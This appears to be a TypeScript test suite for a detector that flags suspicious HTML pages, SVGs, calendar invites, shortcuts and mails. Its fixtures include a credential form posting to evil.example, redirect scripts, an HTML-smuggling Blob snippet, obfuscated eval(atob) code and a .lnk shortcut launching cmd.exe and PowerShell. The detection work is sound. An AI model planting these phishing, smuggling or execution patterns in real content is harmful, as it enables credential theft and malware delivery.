import t from 'tap';
import { examine } from './examine.ts';

const page = (body: string) => examine(`<!doctype html><html><body>${body}</body></html>`, 'page.html');

t.test('pages', async (t) => {
  t.match(page('<p>Hello <a href="https://shop.example/">shop</a></p>'), {
    codes: ['page'],
    text: /Hello shop/,
    urls: ['https://shop.example/'],
  });
  t.strictSame(page('<script type="application/ld+json">{"a":1}</script>').codes, ['page']);
  t.strictSame(page('<script>var a = 1</script>').codes, ['page', 'page-script']);
  const form = page('<form action="https://evil.example/p.php"><input type="password"></form>');
  t.match(form, {
    signs: [{}, { code: 'page-password', detail: 'https://evil.example/p.php' }],
    urls: ['https://evil.example/p.php'],
  });
  t.ok(
    page('<meta http-equiv="refresh" content="0; url=https://evil.example/">').codes.includes(
      'page-redirect',
    ),
  );
  for (const code of [
    'window.location.href = "https://evil.example"',
    'location.replace("https://evil.example")',
    'document.location="//evil.example"',
  ])
    t.ok(page(`<script>${code}</script>`).codes.includes('page-redirect'), code);
  t.notOk(page('<script>if (location == "x") y()</script>').codes.includes('page-redirect'));
});

t.test('smuggling and hidden code', async (t) => {
  const smuggling =
    'var b = new Blob([Uint8Array.from(atob(d), c => c.charCodeAt(0))]); a.href = URL.createObjectURL(b)';
  t.ok(page(`<script>${smuggling}</script>`).codes.includes('page-smuggling'));
  t.ok(
    page(`<script>document.write(unescape("${'%3c'.repeat(200)}"))</script>`).codes.includes(
      'page-obfuscated',
    ),
  );
  t.ok(
    page(`<img src=x onerror="eval(atob('eA=='))">`).codes.includes('page-obfuscated'),
    'in an event handler',
  );
  t.ok(page('<script>var _0x3f2a=["x"];</script>').codes.includes('page-obfuscated'));
  t.notOk(page('<p>How to use atob and eval</p>').codes.includes('page-obfuscated'), 'text about code');
});

t.test('drawings', async (t) => {
  const svg = (body: string) => examine(`<svg xmlns="http://www.w3.org/2000/svg">${body}</svg>`, 'logo.svg');
  t.strictSame(svg('<path d="M0 0"/><text>Logo</text>').codes, []);
  for (const body of [
    '<script>x()</script>',
    '<g onload="x()"/>',
    '<foreignObject><iframe src="x"/></foreignObject>',
    '<a href="javascript:x()">x</a>',
    '<image href="data:text/html;base64,x"/>',
  ])
    t.ok(svg(body).codes.includes('svg-active'), body);
  t.strictSame(svg('<a xlink:href="https://evil.example/">x</a>').urls, ['https://evil.example/']);
  t.ok(svg('<script>window.location="https://evil.example"</script>').codes.includes('page-redirect'));
});

t.test('pages and drawings in disguise are what a browser makes of them', async (t) => {
  const form = '<form><input type="password"></form>';
  for (const begin of ['GIF89a', '<!-- %PDF-1.7 -->', '\n%PDF-1.7\n', 'x '.repeat(5_000)])
    t.ok(
      examine(`${begin}<html>${form}</html>`, 'page.html').codes.includes('page-password'),
      begin.slice(0, 20),
    );
  const drawing = `<!-- ${'x'.repeat(9_000)} --><svg><script>x()</script></svg>`;
  t.ok(examine(drawing, 'logo.svg').codes.includes('svg-active'));
  t.equal(examine('A text about %PDF-1.7 and others').kind, 'text');
});

t.test('invitations', async (t) => {
  const lines = [
    'BEGIN:VCALENDAR',
    'ORGANIZER;CN=Ada:mailto:Ada@Firm.example',
    'SUMMARY:Review',
    'DESCRIPTION:Join https://meet.exam',
    ' ple/x\\nCall 123',
    'END:VCALENDAR',
  ];
  const facts = examine(lines.join('\r\n'));
  t.match(facts, {
    kind: 'calendar',
    urls: ['https://meet.example/x'],
    signs: [{ code: 'calendar-organizer', detail: 'ada@firm.example' }],
  });
  t.match(facts.text, /Review[\s\S]*Call 123/);
});

t.test('shortcuts', async (t) => {
  t.match(examine('[InternetShortcut]\r\nURL=https://evil.example/x\r\n', 'a.url'), {
    urls: ['https://evil.example/x'],
    signs: [{ code: 'shortcut', detail: 'https://evil.example/x' }],
  });
  t.match(examine('[Desktop Entry]\nExec=sh -c x\n').signs, [{ detail: 'sh -c x' }]);
  const head = Buffer.alloc(76);
  Buffer.from('4c0000000114020000000000c000000000000046', 'hex').copy(head);
  head.writeUInt32LE(0x28 | 0x80, 20);
  const text = (value: string) => {
    const length = Buffer.alloc(2);
    length.writeUInt16LE(value.length);
    return Buffer.concat([length, Buffer.from(value, 'utf16le')]);
  };
  const link = Buffer.concat([head, text('..\\cmd.exe'), text('/c powershell x')]);
  t.match(examine(link).signs, [{ code: 'shortcut', detail: '..\\cmd.exe /c powershell x' }]);
});

t.test('mails and plain texts', async (t) => {
  t.match(examine('From: a@b.example\r\nSubject: x\r\n\r\nPay at https://pay.example/.\r\n'), {
    kind: 'message',
    urls: ['https://pay.example/'],
    text: /Pay at/,
  });
  t.match(examine('See https://docs.example/a, please'), { urls: ['https://docs.example/a'], codes: [] });
  t.match(examine('<?xml version="1.0"?><Invoice><ID>4711</ID></Invoice>'), { kind: 'xml', codes: [] });
});
